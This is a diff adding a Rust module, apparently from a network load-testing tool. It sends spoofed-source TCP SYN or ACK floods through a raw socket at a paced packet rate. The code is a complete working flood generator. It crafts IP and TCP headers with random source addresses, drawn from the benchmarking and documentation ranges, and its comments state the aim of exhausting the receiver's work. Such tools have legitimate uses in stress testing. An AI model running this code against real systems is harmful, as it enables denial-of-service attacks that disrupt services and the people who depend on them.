@@ -1,0 +1,80 @@
+//! TCP from sources that are not ours, as in a spoofed flood: whole packets through a raw socket.
+
+use std::net::{IpAddr, Ipv4Addr, Ipv6Addr, SocketAddr};
+use std::time::Duration;
+
+use anyhow::{Context as _, Result};
+use socket2::{Domain, Protocol, SockAddr, Socket, Type};
+
+use crate::pace::{self, Sent};
+
+/// Says that the packet brings its own IP header.
+const IPPROTO_RAW: i32 = 255;
+/// "No buffer space available": the queue of the interface is full.
+const ENOBUFS: i32 = 105;
+
+#[derive(Clone, Copy, Debug, clap::ValueEnum)]
+pub(crate) enum Kind {
+    /// Opens a connection
+    Syn,
+    /// Acknowledges what nobody sent
+    Ack,
+}
+
+pub(crate) fn run(to: SocketAddr, lasts: Duration, kind: Kind, pps: Option<u64>) -> Result<()> {
+    let socket = Socket::new(Domain::for_address(to), Type::RAW, Some(Protocol::from(IPPROTO_RAW)))
+        .context("cannot open a raw socket")?;
+    // A raw IPv6 socket takes no port.
+    let destination = SockAddr::from(SocketAddr::new(to.ip(), 0));
+    let mut random = fastrand::Rng::with_seed(7);
+    let tally = pace::send_for(lasts, pps, || match socket.send_to(&packet(to, kind, &mut random), &destination) {
+        Ok(_) => Ok(Sent::Yes),
+        Err(error) if error.raw_os_error() == Some(ENOBUFS) => Ok(Sent::Refused),
+        Err(error) => Err(error),
+    })
+    .with_context(|| format!("cannot send to {to}"))?;
+    tally.print();
+    Ok(())
+}
+
+fn packet(to: SocketAddr, kind: Kind, random: &mut fastrand::Rng) -> Vec<u8> {
+    let tcp = segment(to.port(), kind, random);
+    let mut packet = match to.ip() {
+        IpAddr::V4(to) => {
+            let source = Ipv4Addr::from(0xc612_0000 | random.u32(..1 << 17));
+            let total = (20 + tcp.len() as u16).to_be_bytes();
+            // The kernel fills in the identification and the checksum.
+            let mut header = vec![0x45, 0, total[0], total[1], 0, 0, 0x40, 0, 64, 6, 0, 0];
+            header.extend(source.octets());
+            header.extend(to.octets());
+            header
+        }
+        IpAddr::V6(to) => {
+            let source = Ipv6Addr::from((0x2001_0db8_u128 << 96) | u128::from(random.u64(..)) << 32 | 1);
+            let mut header = vec![0x60, 0, 0, 0, 0, tcp.len() as u8, 6, 64];
+            header.extend(source.octets());
+            header.extend(to.octets());
+            header
+        }
+    };
+    packet.extend(tcp);
+    packet
+}
+
+/// No checksum: whoever checks it drops the segment, and has by then done the work that a flood is meant to cause.
+fn segment(port: u16, kind: Kind, random: &mut fastrand::Rng) -> Vec<u8> {
+    let mut segment = Vec::new();
+    segment.extend(random.u16(1024..).to_be_bytes());
+    segment.extend(port.to_be_bytes());
+    segment.extend(random.u32(..).to_be_bytes());
+    match kind {
+        Kind::Syn => {
+            segment.extend([0, 0, 0, 0, 0x60, 0x02, 0xff, 0xff, 0, 0, 0, 0, 2, 4, 0x05, 0xb4]);
+        }
+        Kind::Ack => {
+            segment.extend(random.u32(..).to_be_bytes());
+            segment.extend([0x50, 0x10, 0xff, 0xff, 0, 0, 0, 0]);
+        }
+    }
+    segment
+}
